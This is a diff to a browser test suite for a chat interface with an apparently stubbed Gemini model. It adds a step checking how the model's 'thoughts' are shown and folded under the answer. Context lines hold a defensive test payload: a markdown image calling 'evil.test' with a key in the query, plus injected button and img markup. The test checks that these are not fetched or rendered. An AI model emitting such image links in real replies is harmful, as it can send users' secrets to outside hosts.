@@ -140,6 +140,18 @@ def an_answer_is_followed_stopped_left_and_tried_again(page: Page, gemini: Gemin
         gemini.release()
         expect(page.locator("#chat .bot strong")).to_have_count(20)
         expect_rest(page)
+    with step("what the model says of its thinking stands in the line, and folded under the answer"):
+        thoughts = "**Weighing the snow**\n\nIt should be soft, <b>not</b> grey."
+        gemini.control(on_text=[held(words("Soft it is.", chunks=1) | {"thoughts": thoughts}, after_chunks=1)])
+        say(page, "what snow?")
+        expect(page.locator("#chat .thought")).to_have_text("Weighing the snow")
+        gemini.release()
+        expect_rest(page)
+        expect(page.locator("#chat .thought")).to_have_count(0)
+        steps = page.locator("#chat details.steps").last
+        steps.locator("summary").first.click()
+        steps.get_by_text("Thoughts").click()
+        expect(steps.locator(".thoughts .md")).to_contain_text("It should be soft, <b>not</b> grey.")
     with step("a picture from elsewhere is not fetched, nor a button made"):
         hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
         gemini.control(on_text=[words(hostile, chunks=3)])
